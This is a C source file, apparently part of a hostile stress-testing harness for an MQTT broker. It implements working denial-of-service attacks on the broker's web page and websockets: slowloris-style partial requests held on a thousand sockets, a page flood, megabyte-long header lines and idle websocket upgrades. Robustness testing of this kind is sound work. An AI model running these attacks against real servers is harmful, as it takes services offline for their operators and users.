/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on the page that the broker serves, and on the websockets beside it. None of them wants a password. */
#include "hostile.h"

#include <poll.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define SOCKETS 1000
#define AT_ONCE 50
#define PATIENCE_MS 500

static const char HALF[] = "GET /index.html HTTP/1.1\r\nHost: hall\r\n";
static const char WHOLE[] = "GET /index.html HTTP/1.1\r\nHost: hall\r\nConnection: close\r\n\r\n";
static const char UPGRADE[] =
  "GET /mqtt HTTP/1.1\r\nHost: hall\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: mqtt\r\nSec-WebSocket-Version: 13\r\n\r\n";

static gboolean
say(Hostile *self, int fd, const char *bytes, gsize size)
{
  gssize n = send(fd, bytes, size, MSG_DONTWAIT | MSG_NOSIGNAL);
  self->counts.bytes += n > 0 ? (guint64)n : 0;
  return n == (gssize)size;
}

/* What comes in until the other side ends it, or says nothing for a while. FALSE: nothing came. */
static gboolean
drain(Hostile *self, int fd)
{
  char bytes[16384];
  struct pollfd wait = { fd, POLLIN, 0 };
  gboolean any = FALSE;
  gssize n = 0;
  while (poll(&wait, 1, PATIENCE_MS) > 0 && (n = recv(fd, bytes, sizeof bytes, MSG_DONTWAIT)) > 0)
    any = TRUE;
  self->counts.closed += !any;
  return any;
}

static void
allow_files(void)
{
  struct rlimit files;
  if (getrlimit(RLIMIT_NOFILE, &files) != 0)
    return;
  files.rlim_cur = MIN(files.rlim_max, 4096);
  setrlimit(RLIMIT_NOFILE, &files);
}

/* @first on each of a thousand sockets, then @more on one after the other, as long as it goes. */
static void
keep_waiting(Hostile *self, const char *first, const char *more)
{
  g_autoptr(GArray) open = g_array_new(FALSE, FALSE, sizeof(int));
  allow_files();
  for (guint i = 0; i < SOCKETS && !hostile_over(self); i++) {
    int fd = link_socket(self->login.host, self->page, FALSE);
    if (fd < 0)
      break;
    struct pollfd wait = { fd, POLLOUT, 0 };
    self->counts.opened += poll(&wait, 1, PATIENCE_MS) > 0 && say(self, fd, first, strlen(first));
    g_array_append_val(open, fd);
  }
  for (guint i = 0; !hostile_over(self); i++) {
    if (more && open->len > 0)
      say(self, g_array_index(open, int, i % open->len), more, strlen(more));
    g_usleep(2000);
  }
  for (guint i = 0; i < open->len; i++)
    close(g_array_index(open, int, i));
}

static void
run_slow_pages(Hostile *self)
{
  keep_waiting(self, HALF, "X-More: x\r\n");
}

static void
run_idle_websockets(Hostile *self)
{
  keep_waiting(self, UPGRADE, NULL);
}

static void
run_pages(Hostile *self)
{
  while (!hostile_over(self)) {
    int fds[AT_ONCE];
    for (guint i = 0; i < AT_ONCE; i++) {
      fds[i] = link_socket(self->login.host, self->page, TRUE);
      self->counts.opened += fds[i] >= 0 && say(self, fds[i], WHOLE, sizeof WHOLE - 1);
    }
    for (guint i = 0; i < AT_ONCE; i++)
      if (fds[i] >= 0) {
        drain(self, fds[i]);
        close(fds[i]);
      }
  }
}

/* A line of a request that never ends. */
static void
run_endless_requests(Hostile *self)
{
  g_autofree char *more = g_strnfill(16384, 'x');
  while (!hostile_over(self)) {
    int fd = link_socket(self->login.host, self->page, TRUE);
    if (fd < 0)
      break;
    self->counts.opened += say(self, fd, HALF, sizeof HALF - 1);
    for (guint i = 0; i < 64 && say(self, fd, more, 16384); i++)
      ;
    drain(self, fd);
    close(fd);
  }
}

const Attack hostile_pages[] = {
  { "slow-pages", "a thousand requests of the page that never end, a line at a time", NULL, run_slow_pages },
  { "pages", "the page, as fast as it goes", NULL, run_pages },
  { "endless-requests", "requests with a line of a megabyte", NULL, run_endless_requests },
  { "idle-websockets", "a thousand websockets that say nothing", NULL, run_idle_websockets },
  { NULL },
};
